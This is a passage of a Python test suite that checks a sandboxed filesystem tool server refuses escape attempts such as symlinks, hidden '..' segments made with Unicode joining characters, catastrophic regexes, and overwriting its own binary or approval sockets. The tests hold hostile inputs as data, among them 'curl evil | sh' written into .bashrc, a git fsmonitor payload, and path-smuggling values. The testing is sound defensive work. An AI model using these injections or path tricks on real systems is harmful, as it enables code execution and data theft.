        uri(f"{tree.work}/link_dir"),  # a symlink to the outside
        uri(f"{tree.work}/../outside"),  # `..` out of the grant
        uri(str(tree.outside)),
        uri(f"{tree.work}/sub"),
    ]
    (tree.work / "sub").mkdir()

    async def list_roots(context) -> ListRootsResult:
        return ListRootsResult(roots=[Root(uri=u) for u in offered])

    async def body(session, init):
        expected = [str(tree.work / "sub")]
        got: list[str] = []
        with anyio.move_on_after(5):
            while got != expected:
                got = result_text(await session.call_tool("list_allowed_directories", {})).splitlines()[1:]
                await anyio.sleep(0.05)
        assert got == expected
        for path in (f"{tree.work}/link_dir/secret.txt", f"{tree.outside}/secret.txt", f"{tree.work}/inside.txt"):
            res = await session.call_tool("read_text_file", {"path": path})
            assert res.isError and tree.secret not in res.model_dump_json(), res
        res = await session.call_tool("write_file", {"path": f"{tree.outside}/new.txt", "content": "x"})
        assert res.isError
        res = await session.call_tool("list_directory", {"path": str(tree.outside)})
        assert res.isError and "secret.txt" not in result_text(res)

    run_official(bastion_bin, server_env, tmp_path, [str(tree.work)], body, list_roots_callback=list_roots)


def test_catastrophic_regex_cannot_starve_the_server(srv, tree):
    (tree.work / "aaa.txt").write_text("a" * 40 + "!\n")
    for i in range(os.cpu_count() or 2):
        srv.send({"jsonrpc": "2.0", "id": 900 + i, "method": "tools/call",
                  "params": {"name": "search_content", "arguments": {"path": str(tree.work), "pattern": "(a+)+$"}}})  # fmt: skip
    time.sleep(0.3)
    for i in range(os.cpu_count() or 2):
        srv.notify("notifications/cancelled", {"requestId": 900 + i, "reason": "taking too long"})
    srv.assert_alive()
    res = srv.call_tool("read_text_file", {"path": f"{tree.work}/inside.txt"}, timeout=5)
    assert result_text(res) == "inside\n"


def test_server_exits_on_stdin_eof_despite_a_runaway_search(srv, tree):
    (tree.work / "aaa.txt").write_text("a" * 40 + "!\n")
    srv.send({"jsonrpc": "2.0", "id": 950, "method": "tools/call",
              "params": {"name": "search_content", "arguments": {"path": str(tree.work), "pattern": "(a+)+$"}}})  # fmt: skip
    time.sleep(0.3)
    srv.close(timeout=3, expect_code=None)


def ok(res: dict) -> dict:
    assert not is_error(res), result_text(res)[:500]
    return res


# -- grapheme tricks around "/" (found in review): every path decision is made on bytes ------------

PREPEND = "\u0600"  # joins the following "/" into one Character
COMBINING = "\u0301"  # joins the preceding "/" into one Character


def test_a_symlink_renamed_with_a_prepend_character_cannot_reach_outside(srv, tree):
    """Rename an in-scope link to `L\\u0600`, then use `L\\u0600/secret.txt`: the `/` is still a separator."""
    ok(srv.call_tool("move_file", {"source": str(tree.work / "link_dir"), "destination": f"{tree.work}/L{PREPEND}"}))
    base = f"{tree.work}/L{PREPEND}"
    for tool, args in [
        ("get_file_info", {"path": f"{base}/secret.txt"}),
        ("read_text_file", {"path": f"{base}/secret.txt"}),
        ("delete_path", {"path": f"{base}/secret.txt"}),
        ("write_file", {"path": f"{base}/planted.sh", "content": "echo pwned\n"}),
        ("create_directory", {"path": f"{base}/made"}),
    ]:
        refused(srv, tree, tool, args, ["secret.txt", "planted.sh", "made", "outside"])
    assert not (tree.outside / "planted.sh").exists() and not (tree.outside / "made").exists()
    srv.finish()


def test_a_hidden_dot_dot_cannot_reach_protected_or_denied_files(spawn, write_config, tree):
    """`x<joiner>/config` is `x/../config` to the kernel: the check must see the same `..`."""
    git = tree.work / "proj" / ".git"
    git.mkdir(parents=True)
    (git / "config").write_text("[core]\n")
    (tree.work / "secret").mkdir()
    (tree.work / "secret" / "key").write_text(tree.secret + "\n")
    config = write_config(
        f"""\
        [[clients]]
        id = "c"
        workdir = "{tree.top}/state-workdir"
        permissions = ["file_read:{tree.work}/**", "file_write:{tree.work}/**"]
        deny = ["{tree.work}/secret/**"]
        """
    )
    server = start(spawn, "--config", config, "--client", "c")
    dodge = "x" + PREPEND + "/.."  # one Character "x\u0600/" then "..": two segments to the kernel
    for _ in range(2):  # the second time after the odd directory exists (the first answer may be cached)
        refused(server, tree, "write_file",
                {"path": f"{git}/{dodge}/config", "content": "[core]\n\tfsmonitor = \"touch /tmp/PWNED\"\n"},
                ["config"])  # fmt: skip
        refused(server, tree, "read_text_file", {"path": f"{tree.work}/{dodge}/secret/key"}, ["key"])
        ok(server.call_tool("create_directory", {"path": f"{git}/x{PREPEND}"}))
        ok(server.call_tool("create_directory", {"path": f"{tree.work}/x{PREPEND}"}))
    assert (git / "config").read_text() == "[core]\n"
    server.finish()


def test_a_root_with_non_ascii_characters_keeps_its_rules(spawn, tmp_path):
    root = Path(os.path.realpath(tmp_path)) / "jos\u00e9"
    root.mkdir()
    (root / ".env").write_text("API_KEY=hunter2\n")
    (root / ".bashrc").write_text("echo hi\n")
    (root / "X.env").write_text("just a file\n")
    server = start(spawn, root)
    res = server.call_tool("read_text_file", {"path": str(root / "X.env")})
    assert result_text(res) == "just a file\n", res
    ok(server.call_tool("write_file", {"path": str(root / "X.bashrc"), "content": "fine\n"}))
    res = server.call_tool("write_file", {"path": str(root / ".bashrc"), "content": "curl evil | sh\n"})
    assert_refused(res, names=[".bashrc"], words=("protected",))
    assert (root / ".bashrc").read_text() == "echo hi\n" and (root / "X.bashrc").read_text() == "fine\n"
    server.finish()


def test_a_rewritten_file_never_keeps_setuid_or_setgid_bits(srv, tree):
    tool = tree.work / "tool"
    tool.write_text("#!/bin/sh\n")
    os.chmod(tool, 0o6755)
    ok(srv.call_tool("write_file", {"path": str(tool), "content": "#!/bin/sh\nid\n"}))
    assert stat.S_IMODE(os.stat(tool).st_mode) == 0o755
    srv.finish()


def test_huge_brace_patterns_are_refused_quickly(srv, tree):
    wide = "{" + ",".join(f"x{i}" for i in range(20_000)) + "}"
    for pattern in [wide, "{a,b}{c,d}{e,f}{g,h}{i,j}{k,l}{m,n}"]:
        res = srv.call_tool("search_files", {"path": str(tree.work), "pattern": pattern}, timeout=5)
        assert is_error(res) and "pattern" in result_text(res).lower(), result_text(res)[:200]
    srv.finish()


def test_a_back_reference_cannot_hide_behind_a_joining_character(srv, tree):
    res = srv.call_tool("search_content", {"path": str(tree.work), "pattern": f"(a){PREPEND}\\1"})
    assert is_error(res) and "back-reference" in result_text(res), result_text(res)
    srv.finish()


def test_the_servers_own_binary_is_never_writable(bastion_bin, server_env, tmp_path, write_config):
    """Review 8, finding 17: a client granted writes everywhere still cannot replace the binary the
    server runs (a root server would run the client's code as root at its next start); review 9,
    finding 1: nor plant a library beside it, where the loader looks first (`$ORIGIN`)."""
    install = tmp_path / "install"
    install.mkdir()
    binary = install / "bastion"
    binary.write_bytes(Path(bastion_bin).read_bytes())
    binary.chmod(0o755)
    before = Snapshot.of(binary)
    config = write_config(f'[[clients]]\nid = "gw"\npermissions = ["file_read:/**", "file_write_global:{install}/**"]\n')
    srv = StdioClient([str(binary), "serve", "--config", str(config), "--client", "gw"], server_env, tmp_path)
    try:
        srv.initialize(LATEST)
        for tool, arguments in [
            ("write_file", {"path": str(binary), "content": "#!/bin/sh\n"}),
            ("edit_file", {"path": str(binary), "edits": [{"oldText": "ELF", "newText": "FLE"}]}),
            ("move_file", {"source": str(binary), "destination": str(install / "moved")}),
        ]:
            res = srv.call_tool(tool, arguments)
            assert is_error(res) and "protected" in result_text(res), (tool, res)
        assert Snapshot.of(binary) == before
        for name in ("libre2.so.9", "libc.so.6", "notes.txt"):
            res = srv.call_tool("write_file", {"path": str(install / name), "content": "not an ELF\n"})
            assert is_error(res) and "protected" in result_text(res), (name, res)
            assert not (install / name).exists()
        res = srv.call_tool("write_file", {"path": str(tmp_path / "notes.txt"), "content": "fine\n"})
        assert is_error(res), "the grant does not reach beyond the install directory"
        srv.finish()
    finally:
        srv.kill()


def test_a_workdir_holding_the_servers_binary_is_refused(bastion_bin, run_cli, write_config):
    """Review 9, finding 2: code a client runs may write its workdir, so a library planted beside a
    binary there would be loaded by the next sandbox-exec before any sandbox."""
    config = write_config(f'[[clients]]\nid = "a"\nworkdir = "{Path(bastion_bin).parent}"\npermissions = ["file_read"]\n')
    proc = run_cli("check-config", config)
    assert proc.returncode != 0
    assert "which the server runs" in proc.stderr, proc.stderr


def test_the_approval_sockets_directory_is_out_of_every_clients_reach(spawn, write_config, server_env, tmp_path):
    """Review 9, finding 4: a client granted writes over the approval sockets' directory can neither
    list it, nor delete or replace a socket a person answers approvals on."""
    runtime = tmp_path / "run"
    approvals = runtime / "bastion" / "approvals"
    approvals.mkdir(parents=True)
    (approvals / "4242.sock").write_text("")
    server_env["XDG_RUNTIME_DIR"] = str(runtime)
    config = write_config(f'[[clients]]\nid = "a"\npermissions = ["file_read:{runtime}/**", "file_write_global:{runtime}/**"]\n')
    srv = start(spawn, "--config", config, "--client", "a")
    for tool, arguments in [
        ("list_directory", {"path": str(approvals)}),
        ("delete_path", {"path": str(approvals / "4242.sock")}),
        ("move_file", {"source": str(approvals), "destination": str(runtime / "gone")}),
        ("move_file", {"source": str(runtime / "bastion"), "destination": str(runtime / "gone")}),
        ("write_file", {"path": str(approvals / "evil.sock"), "content": "x"}),
    ]:
        res = srv.call_tool(tool, arguments)
        assert is_error(res) and "protected" in result_text(res), (tool, res)
    assert sorted(os.listdir(approvals)) == ["4242.sock"]
    srv.finish()


def test_the_link_the_server_was_started_by_is_never_writable(bastion_bin, server_env, tmp_path, write_config):
    """Review 9, finding 6: the next start runs the name the operator uses (`/usr/local/bin/bastion`,
    often a link to the real binary): neither the link nor its directory may be replaced."""
    links = tmp_path / "bin"
    links.mkdir()
    (links / "bastion").symlink_to(bastion_bin)
    config = write_config(f'[[clients]]\nid = "gw"\npermissions = ["file_read:/**", "file_write_global:{links}/**"]\n')
    srv = StdioClient([str(links / "bastion"), "serve", "--config", str(config), "--client", "gw"], server_env, tmp_path)
    try:
        srv.initialize(LATEST)
        for tool, arguments in [
            ("delete_path", {"path": str(links / "bastion")}),
            ("move_file", {"source": str(links / "bastion"), "destination": str(links / "old")}),
            ("write_file", {"path": str(links / "helper"), "content": "#!/bin/sh\n"}),
        ]:
            res = srv.call_tool(tool, arguments)
            assert is_error(res) and "protected" in result_text(res), (tool, res)
        assert os.readlink(links / "bastion") == str(bastion_bin)
        srv.finish()
    finally:
        srv.kill()
